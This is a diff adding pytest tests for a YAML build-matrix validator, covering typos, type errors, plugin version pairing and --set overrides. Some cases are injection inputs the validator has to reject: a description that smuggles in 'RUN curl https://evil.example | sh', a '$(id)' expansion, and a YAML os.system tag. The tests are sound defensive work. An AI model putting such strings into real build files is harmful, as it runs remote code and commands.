@@ -1,0 +1,369 @@
+"""Tests for envbuild/matrix/: loading, validation with located errors, --set overrides.
+
+Every bad matrix is derived from tests/data/minimal.yaml by editing one or two lines, so each case reads
+as "this mistake" and the expected line is the line that holds the mistake (found by text, not hard-coded).
+Each case is checked twice: through the library (envbuild.matrix.loads) and through `envbuild validate`.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from support.constants import FIXED
+from support.constants import MATRIX as REPO_MATRIX
+from support.constants import MINIMAL as MINIMAL_PATH
+
+from envbuild import matrix
+from envbuild.errors import MatrixError, NotContainerizableError, Problem, UnknownBackendError
+
+MINIMAL = MINIMAL_PATH.read_text(encoding="utf-8")
+
+# Anchors that say in which part of MINIMAL an edit or a searched line lies.
+CPU, NPU, ROCM, MPS = "\n  cpu:\n", "\n  npu:\n", "\n  rocm:\n", "\n  mps:\n"
+PLUGIN = "\n    plugin:\n"
+
+
+def _find(text: str, needle: str, after: str = "") -> int:
+    start = text.index(after) if after else 0
+    return text.index(needle, start)
+
+
+def edit(text: str, *edits: tuple[str, str, str]) -> str:
+    """Apply (old, new, after) edits: replace the first `old` that follows the anchor `after`."""
+    for old, new, after in edits:
+        i = _find(text, old, after)
+        text = text[:i] + new + text[i + len(old):]
+    return text
+
+
+def line_of(text: str, needle: str, after: str = "") -> int:
+    """1-based line of the first `needle` after the anchor `after`."""
+    return text[: _find(text, needle, after)].count("\n") + 1
+
+
+@dataclass(frozen=True)
+class Bad:
+    id: str
+    edits: tuple[tuple[str, str, str], ...]
+    line: tuple[str, str]  # (needle, after): the line the single error must name
+    fragments: tuple[str, ...]  # the field path, the problem and the hint
+
+
+BAD = [
+    # --- YAML itself ---
+    Bad("yaml-syntax-error", (("device: cpu\n", "device: cpu: x\n", CPU),), ("device: cpu: x", ""),
+        ("YAML syntax error", "mapping values are not allowed")),
+    # --- keys ---
+    Bad("missing-required-key", (("    description: CPU\n", "", CPU),), ("  cpu:", ""),
+        ("missing required key 'description' in backends.cpu",)),
+    Bad("missing-index-url-for-pip-torch", (("      index_url: https://download.pytorch.org/whl/cpu\n", "", CPU),),
+        ("    torch:", CPU), ("missing required key 'index_url' in backends.cpu.torch",)),
+    Bad("missing-reason-for-non-containerizable", (("    reason: no Linux container can reach Apple's Metal GPU\n", "", MPS),),
+        ("  mps:", ""), ("missing required key 'reason' in backends.mps",)),
+    # The issue's own example: a typo of a required key must give ONE message, the did-you-mean one.
+    Bad("unknown-key-typo-of-required-key", (("base_image:", "base_imge:", CPU),), ("base_imge:", ""),
+        ("unknown key 'base_imge' in backends.cpu", "(did you mean 'base_image'?)")),
+    Bad("unknown-key-typo-nested", (("apt:", "atp:", CPU),), ("atp:", ""),
+        ("unknown key 'atp' in backends.cpu.python", "(did you mean 'apt'?)")),
+    Bad("unknown-key-typo-top-level-section", (("vendor:", "vendr:", ""),), ("vendr:", ""),
+        ("unknown key 'vendr' in image", "(did you mean 'vendor'?)")),
+    Bad("unknown-key-no-close-match", (("      privileged: false\n", "      privileged: false\n      frobnicate: 1\n", ROCM),),
+        ("frobnicate:", ""), ("unknown key 'frobnicate' in backends.rocm.run", "(known keys: gpus, devices,")),
+    Bad("duplicate-key", (("    base_image: debian:bookworm-slim\n",
+                           "    base_image: debian:bookworm-slim\n    base_image: debian:trixie-slim\n", CPU),),
+        ("debian:trixie-slim", ""),
+        ("duplicate key 'base_image' in backends.cpu", f"first defined at line {line_of(MINIMAL, 'base_image:', CPU)}")),
+    Bad("duplicate-backend", (("\n  mps:\n", "\n  cpu:\n", ""),), ("  cpu:", ROCM),
+        ("duplicate key 'cpu' in backends", f"first defined at line {line_of(MINIMAL, '  cpu:')}")),
+    # --- types ---
+    Bad("wrong-type-unquoted-version", (('version: "2.15.0"', "version: 2.15", CPU),), ("version: 2.15", ""),
+        ("backends.cpu.torch.version", "expected a version string, got a number 2.15", "quote it")),
+    Bad("wrong-type-string-for-list", (("platforms: [linux/amd64]", "platforms: linux/amd64", CPU),),
+        ("platforms: linux/amd64", ""), ("backends.cpu.platforms", "expected a list, got a string 'linux/amd64'")),
+    Bad("wrong-type-string-for-bool", (("privileged: false", 'privileged: "no"', ROCM),), ('privileged: "no"', ""),
+        ("backends.rocm.run.privileged", "expected true or false, got a string 'no'")),
+    Bad("wrong-type-string-for-mapping", (('accelerate:\n  version: "1.15.0"', 'accelerate: "1.15.0"', ""),),
+        ('accelerate: "1.15.0"', ""), ("accelerate", "expected a mapping, got a string '1.15.0'")),
+    Bad("empty-required-list", (("runs_on: [ubuntu-latest]", "runs_on: []", CPU),), ("runs_on: []", ""),
+        ("backends.cpu.ci.runs_on", "must list at least one entry")),
+    Bad("value-not-one-of-choices", (("pairing: same-release", "pairing: same-patch", PLUGIN),), ("same-patch", ""),
+        ("backends.npu.plugin.pairing", "'same-patch' is not one of: same-release, same-minor, local-torch, none")),
+    Bad("bad-backend-name", (("\n  cpu:\n", "\n  CPU:\n", ""),), ("  CPU:", ""),
+        ("backend name 'CPU' is not a lower-case name",)),
+    Bad("darwin-platform-in-a-container", (("platforms: [linux/amd64]", "platforms: [darwin/arm64]", CPU),),
+        ("darwin/arm64", CPU), ("backends.cpu.platforms", "cannot target darwin")),
+    # An invalid value must be reported as invalid, once, not also as "missing".
+    Bad("invalid-image-reference", (("debian:bookworm-slim", '"debian:bookworm slim"', CPU),), ("bookworm slim", ""),
+        ("backends.cpu.base_image", "'debian:bookworm slim' is not an image reference")),
+    # --- versions and specifiers ---
+    Bad("invalid-version", (('version: "5.23.0"', 'version: "5.23.x"', ""),), ('"5.23.x"', ""),
+        ("transformers.version", "'5.23.x' is not a valid version (PEP 440)")),
+    Bad("invalid-specifier", (('torch: ">=2.14,<2.15"', 'torch: "=>2.14"', PLUGIN),), ('"=>2.14"', ""),
+        ("backends.npu.plugin.torch", "'=>2.14' is not a valid version specifier")),
+    # --- plugin/torch pairing rules ---
+    Bad("pairing-same-release", (('version: "2.14.0"', 'version: "2.13.0"', PLUGIN),), ('"2.13.0"', ""),
+        ("backends.npu.plugin.version", "torch-npu 2.13.0 does not pair with torch 2.14.0", "rule same-release")),
+    Bad("pairing-same-minor", (("pairing: same-release", "pairing: same-minor", PLUGIN),
+                               ('version: "2.14.0"', 'version: "2.13.9"', PLUGIN)), ('"2.13.9"', ""),
+        ("backends.npu.plugin.version", "torch-npu 2.13.9 does not pair with torch 2.14.0", "rule same-minor")),
+    Bad("pairing-local-torch", (("pairing: same-release", "pairing: local-torch", PLUGIN),
+                                ('version: "2.14.0"', 'version: "1.23.1+torch2.13.0"', PLUGIN)),
+        ('"1.23.1+torch2.13.0"', ""), ("backends.npu.plugin.version", "rule local-torch", "'+torch2.14.0'")),
+    Bad("plugin-torch-specifier-range", (('torch: ">=2.14,<2.15"', 'torch: ">=2.15,<2.16"', PLUGIN),),
+        ('">=2.15,<2.16"', ""), ("backends.npu.plugin.torch", "torch 2.14.0 is outside the plugin's supported range")),
+    # --- values that would inject into a Dockerfile ---
+    Bad("newline-injection", (("description: CPU", 'description: "CPU\\nRUN curl https://evil.example | sh"', CPU),),
+        ("RUN curl", ""), ("backends.cpu.description", "newline or control character", "inject")),
+    Bad("newline-injection-block-scalar", (("description: CPU", "description: |\n      CPU\n      RUN id", CPU),),
+        ("description: |", ""), ("backends.cpu.description", "newline or control character")),
+    Bad("control-character", (("description: CPU", 'description: "CPU\\a"', CPU),), ('"CPU\\a"', ""),
+        ("backends.cpu.description", "control character")),
+    Bad("double-quote-in-label-text", (("vendor: example", "vendor: 'ex\"ample'", ""),), ("vendor:", ""),
+        ("image.vendor", "without quotes")),
+    Bad("double-quote-in-description", (("description: CPU", "description: 'CPU \"fast\"'", CPU),), ('"fast"', ""),
+        ("backends.cpu.description", "without quotes")),
+    Bad("shell-expansion-in-label-text", (("description: CPU", "description: CPU $(id)", CPU),), ("$(id)", ""),
+        ("backends.cpu.description", "'$'")),
+]
+
+
+def test_minimal_matrix_is_valid() -> None:
+    m = matrix.loads(MINIMAL, "minimal.yaml")
+    assert m.names == ["cpu", "npu", "rocm", "mps"]
+    assert [b.name for b in m.containerizable()] == ["cpu", "npu", "rocm"]
+
+
+def test_at_least_ten_bad_matrices_are_distinct() -> None:
+    texts = {edit(MINIMAL, *case.edits) for case in BAD}
+    assert len(texts) == len(BAD) >= 10
+    assert MINIMAL not in texts
+
+
+@pytest.mark.parametrize("case", BAD, ids=lambda c: c.id)
+def test_bad_matrix_gives_one_located_error(case: Bad, write_matrix, invoke) -> None:
+    text = edit(MINIMAL, *case.edits)
+    line = line_of(text, *case.line)
+    path = write_matrix(text)
+
+    # CLI: exit 2, one message, `FILE:LINE: field problem (hint)`, nothing on stdout, no traceback.
+    result = invoke("validate", "--matrix", path)
+    assert result.exit_code == 2, result.output
+    errors = [ln for ln in result.stderr.splitlines() if ln.strip()]
+    assert len(errors) == 1, f"expected one located error, got:\n{result.stderr}"
+    assert errors[0].startswith(f"Error: {path}:{line}: "), errors[0]
+    assert "matrix.yaml" in errors[0]
+    for fragment in case.fragments:
+        assert fragment in errors[0]
+    assert result.stdout == ""
+
+    # Library: the same single Problem, with the source name given and the line.
+    with pytest.raises(MatrixError) as info:
+        matrix.loads(text, "matrix.yaml")
+    problems = info.value.problems
+    assert len(problems) == 1, "\n".join(map(str, problems))
+    assert (problems[0].source, problems[0].line) == ("matrix.yaml", line)
+    assert str(problems[0]).startswith(f"matrix.yaml:{line}: ")
+    assert info.value.exit_code == 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["", "\n\n", "   \n", "# just a comment\n# and another\n", "---\n", "null\n"],
+    ids=["empty", "blank-lines", "spaces", "comments-only", "document-marker-only", "null"],
+)
+def test_empty_matrix(text: str, write_matrix, invoke) -> None:
+    path = write_matrix(text)
+    result = invoke("validate", "--matrix", path)
+    assert result.exit_code == 2
+    errors = result.stderr.splitlines()
+    assert len(errors) == 1, result.stderr
+    assert errors[0].startswith(f"Error: {path}")
+    assert "empty" in errors[0]
+    with pytest.raises(MatrixError) as info:
+        matrix.loads(text, "m.yaml")
+    assert len(info.value.problems) == 1 and info.value.problems[0].source == "m.yaml"
+
+
+@pytest.mark.parametrize(
+    ("text", "fragment"),
+    [("- cpu\n- cuda\n", "got a list"), ("hello\n", "got a string 'hello'"), ("42\n", "got a number")],
+    ids=["list", "string", "number"],
+)
+def test_top_level_must_be_a_mapping(text: str, fragment: str, write_matrix, invoke) -> None:
+    path = write_matrix(text)
+    result = invoke("validate", "--matrix", path)
+    assert result.exit_code == 2
+    (error,) = result.stderr.splitlines()
+    assert error.startswith(f"Error: {path}:1: the matrix must be a mapping")
+    assert fragment in error
+
+
+def test_yaml_syntax_error_unclosed_flow_sequence_names_the_file_and_a_line(write_matrix, invoke) -> None:
+    text = edit(MINIMAL, ("platforms: [linux/amd64]", "platforms: [linux/amd64", CPU))
+    path = write_matrix(text)
+    result = invoke("validate", "--matrix", path)
+    assert result.exit_code == 2
+    (error,) = result.stderr.splitlines()
+    assert error.startswith(f"Error: {path}:") and "YAML syntax error" in error
+    reported = int(error[len(f"Error: {path}:"):].split(":", 1)[0])
+    assert reported >= line_of(text, "platforms: [linux/amd64", CPU)
+
+
+def test_yaml_python_tags_are_refused(write_matrix, invoke) -> None:
+    path = write_matrix("image: !!python/object/apply:os.system true\n")
+    result = invoke("validate", "--matrix", path)
+    assert result.exit_code == 2
+    assert f"{path}:1: YAML syntax error" in result.stderr
+
+
+def test_non_utf8_file_names_the_line(write_matrix, invoke) -> None:
+    raw = MINIMAL.encode().replace(b"description: CPU", b"description: CPU \xff")
+    path = write_matrix(raw)
+    result = invoke("validate", "--matrix", path)
+    assert result.exit_code == 2
+    line = line_of(MINIMAL, "description: CPU")
+    assert result.stderr.strip() == f"Error: {path}:{line}: not UTF-8 text"
+    with pytest.raises(MatrixError) as info:
+        matrix.load(path)
+    assert info.value.problems == [Problem(str(path), line, "not UTF-8 text")]
+
+
+def test_missing_file(tmp_path: Path, invoke) -> None:
+    path = tmp_path / "nope.yaml"
+    result = invoke("validate", "--matrix", path)
+    assert result.exit_code == 2
+    assert f"{path}: no such file" in result.stderr
+    with pytest.raises(MatrixError, match="no such file"):
+        matrix.load(path)
+
+
+def test_all_problems_are_collected_in_one_run(write_matrix, invoke) -> None:
+    text = edit(
+        MINIMAL,
+        ("base_image:", "base_imgae:", NPU),
+        ('version: "2.15.0"', 'version: "two"', CPU),
+        ("vendor: example", "vendor: 'a\"b'", ""),
+    )
+    path = write_matrix(text)
+    result = invoke("validate", "--matrix", path)
+    assert result.exit_code == 2
+    stderr = result.stderr
+    assert f"{path}:{line_of(text, 'vendor:')}: image.vendor" in stderr
+    assert f"{path}:{line_of(text, 'version:', CPU)}: backends.cpu.torch.version" in stderr
+    assert f"{path}:{line_of(text, 'base_imgae:')}: unknown key 'base_imgae' in backends.npu (did you mean 'base_image'?)" in stderr
+    with pytest.raises(MatrixError) as info:
+        matrix.loads(text)
+    assert len(info.value.problems) >= 3
+
+
+def test_version_with_surrounding_spaces_is_rejected() -> None:
+    # packaging accepts " 2.15.0 "; kept as is it would render `torch== 2.15.0 ` and split ENVBUILD_EXPECT.
+    text = edit(MINIMAL, ('version: "2.15.0"', 'version: " 2.15.0 "', CPU))
+    with pytest.raises(MatrixError) as info:
+        matrix.loads(text)
+    (problem,) = info.value.problems
+    assert problem.line == line_of(text, '" 2.15.0 "')
+    assert "backends.cpu.torch.version" in problem.message and "leading or trailing spaces" in problem.message
+
+
+# --------------------------------------------------------------------------------------------------
+# The valid repo matrix and the typed objects.
+
+
+def test_repo_matrix_loads() -> None:
+    m = matrix.load(REPO_MATRIX)
+    assert m.names == ["cpu", "cuda", "rocm", "neuron", "tpu", "xpu", "mps", "hpu", "npu", "mlu", "musa"]
+    assert [b.name for b in m.containerizable()] == [n for n in m.names if n != "mps"]
+    assert {b.name for b in m.backends if b.torch.source == "base"} == {"rocm", "neuron", "hpu", "mlu", "musa"}
+    assert m.path == str(REPO_MATRIX)
+
+
+def test_fixed_test_matrix_is_valid() -> None:
+    m = matrix.load(FIXED)
+    assert len(m.containerizable()) == 10
+
+
+def test_backend_objects_are_frozen_and_typed() -> None:
+    m = matrix.loads(MINIMAL)
+    npu = m.backend("npu")
+    assert npu.plugin == matrix.Plugin("torch-npu", "2.14.0", "pip", None, "same-release", ">=2.14,<2.15")
+    assert npu.pins == {"torch": "2.14.0", "torch-npu": "2.14.0"}
+    assert npu.import_module == "torch_npu" and npu.availability == "torch.npu.is_available"
+    cpu = m.backend("cpu")
+    assert cpu.torch == matrix.Torch("pip", "2.15.0", "https://download.pytorch.org/whl/cpu")
+    assert cpu.python == matrix.Python("python3", ("python3", "python3-venv"))
+    assert cpu.runs_on == ("ubuntu-latest",) and cpu.platforms == ("linux/amd64",)
+    assert m.image == matrix.Image("ghcr.io/example/envbuild", "https://github.com/example/envbuild", "Apache-2.0", "example")
+    assert (m.transformers, m.accelerate) == ("5.23.0", "1.15.0")
+    with pytest.raises(dataclasses.FrozenInstanceError):
+        cpu.name = "gpu"  # type: ignore[misc]
+
+
+def test_docker_run_flags_for_rocm() -> None:
+    args = matrix.load(REPO_MATRIX).backend("rocm").run.docker_args()
+    joined = " ".join(args)
+    for flag in ("--device /dev/kfd", "--device /dev/dri", "--group-add video", "--ipc=host", "--shm-size 8g"):
+        assert flag in joined
+
+
+def test_tags() -> None:
+    m = matrix.loads(MINIMAL)
+    assert m.tags(m.backend("npu")) == [
+        "ghcr.io/example/envbuild:npu",
+        "ghcr.io/example/envbuild:npu-torch2.14.0-torch-npu2.14.0-transformers5.23.0",
+    ]
+
+
+def test_select() -> None:
+    m = matrix.loads(MINIMAL)
+    assert [b.name for b in m.select([])] == ["cpu", "npu", "rocm"]
+    assert [b.name for b in m.select(["all"])] == ["cpu", "npu", "rocm"]
+    assert [b.name for b in m.select(["rocm", "cpu", "rocm"])] == ["rocm", "cpu"]
+    assert [b.name for b in m.select(["mps"], containers_only=False)] == ["mps"]
+    with pytest.raises(NotContainerizableError, match="cannot run in a container.*Metal.*Instead: use the cpu image"):
+        m.select(["mps"])
+    with pytest.raises(UnknownBackendError) as info:
+        m.select(["nope"])
+    assert info.value.exit_code == 2
+    assert "unknown backend 'nope'" in str(info.value)
+    assert info.value.valid == ["cpu", "npu", "rocm", "mps"]
+
+
+# --------------------------------------------------------------------------------------------------
+# --set overrides, through the library.
+
+
+def test_override_applies() -> None:
+    m = matrix.loads(MINIMAL, overrides=["backends.cpu.torch.version=2.13.0", "transformers.version=5.0.0"])
+    assert m.backend("cpu").torch.version == "2.13.0"
+    assert m.transformers == "5.0.0"
+
+
+def test_override_number_stays_text() -> None:
+    assert matrix.loads(MINIMAL, overrides=["backends.cpu.torch.version=2.13"]).backend("cpu").torch.version == "2.13"
+
+
+@pytest.mark.parametrize(
+    ("override", "fragment"),
+    [
+        ("backends.cpu.torch.version=abc", "backends.cpu.torch.version: 'abc' is not a valid version"),
+        ("backends.cpu.torch.verison=2.13.0", "unknown key 'verison' in backends.cpu.torch (did you mean 'version'?)"),
+        ("backends.cpu.torch.version", "expected DOTTED.PATH=VALUE"),
+        ("=2.13.0", "expected DOTTED.PATH=VALUE"),
+        ("backends..torch=1", "expected DOTTED.PATH=VALUE"),
+        ("backends.cpu.torch.version.patch=1", "backends.cpu.torch.version is not a mapping"),
+        ('backends.cpu.description=a"b', "without quotes"),
+    ],
+    ids=["invalid-version", "typo", "no-equals", "no-path", "empty-part", "not-a-mapping", "quote"],
+)
+def test_override_errors_name_the_set(override: str, fragment: str) -> None:
+    with pytest.raises(MatrixError) as info:
+        matrix.loads(MINIMAL, "matrix.yaml", overrides=[override])
+    (problem,) = info.value.problems
+    assert problem.source == f"--set {override}"
+    assert problem.line is None
+    assert fragment in problem.message
